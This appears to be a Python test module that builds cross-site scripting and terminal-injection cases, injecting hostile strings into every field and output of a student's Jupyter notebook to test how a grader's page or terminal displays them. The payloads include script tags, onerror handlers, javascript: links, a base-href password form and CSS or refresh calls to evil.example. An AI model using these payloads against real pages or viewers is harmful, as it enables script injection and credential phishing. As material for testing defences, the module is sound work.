"""Attacks on whoever looks: HTML, scripts and control characters where a page or a terminal shows a student's words."""

# ruff: noqa: E501  # the text of an attack stands on one line

from __future__ import annotations

from attack import Attack, Book, every

KIND = "browser"
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(2)>",
    "svg": "<svg onload=alert(3)><script>alert(3)</script></svg>",
    "frame": "<iframe srcdoc='<script>alert(4)</script>'></iframe>",
    "close": "</pre></style></title><script>alert(5)</script><style>",
    "template": "{{ 7 * 7 }}{% raw %}${alert(6)}",
    "link": "[x](javascript:alert(7)) <a href='javascript:alert(7)'>x</a>",
    "css": "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/y)}</style>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "base": "<base href='http://evil.example/'><form action=x><input name=password></form>",
    "entity": "&lt;script&gt;alert(8)&lt;/script&gt;&#60;script&#62;",
    "math": "$\\href{javascript:alert(9)}{x}$ <math><mtext><script>alert(9)</script></mtext></math>",
    "comment": "<!--><script>alert(10)</script>-->",
    "broken": "<scr<script>ipt>alert(11)</scr</script>ipt><img/src=x/onerror=alert(11)//",
    "ansi": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "bidi": "\u202egnp.exe\u2066\u2069\u200b",
    "surrogate": "\ud800\udfff",
    "nul": "\0\x01\x7f\u2028",
}


def _outputs(text: str) -> list[Book]:
    data = {
        "text/html": text,
        "image/svg+xml": text,
        "application/javascript": text,
        "text/latex": text,
        "text/markdown": text,
        "application/vnd.jupyter.widget-view+json": {"model_id": text},
        "text/plain": text,
        "image/png": text,
    }
    return [
        {"output_type": "display_data", "metadata": {"isolated": True}, "data": data},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        {"output_type": "stream", "name": "stdout", "text": [text]},
    ]


def _everywhere(text: str):
    def change(book: Book) -> None:
        for cell in book["cells"]:
            if cell["cell_type"] == "code":
                cell["outputs"] = _outputs(text)
        more = [("markdown", text), ("raw", text), ("code", f"quantize = {text!r}")]
        book["cells"] += [
            {
                "cell_type": kind,
                "id": f"x{i}",
                "metadata": {"name": text, "tags": [text], "format": "text/html"},
                "source": source,
                "outputs": [],
            }
            for i, (kind, source) in enumerate(more)
        ]
        book["metadata"] = {
            "title": text,
            "kernelspec": {"name": text, "display_name": text},
            "widgets": {"x": text},
            "language_info": {"name": text, "mimetype": text, "pygments_lexer": text},
        }

    return change


ATTACKS = tuple(
    Attack(f"{way}-{name}", KIND, f"{says}: {name}", answers, change=_everywhere(text))
    for name, text in HOSTILE.items()
    for way, says, answers in (
        ("raised", "show a page words of an error", every(f"raise ValueError({text!r})")),
        ("asserted", "show a page words of an assertion", every(f"assert False, {text!r}")),
        (
            "returned",
            "show a page a value, and the name of its type",
            every(
                f"return type({text!r}.replace(chr(0), '').encode(errors='replace').decode(), (), {{}})() if args and len(args) > 1 else {text!r}"
            ),
        ),
    )
)
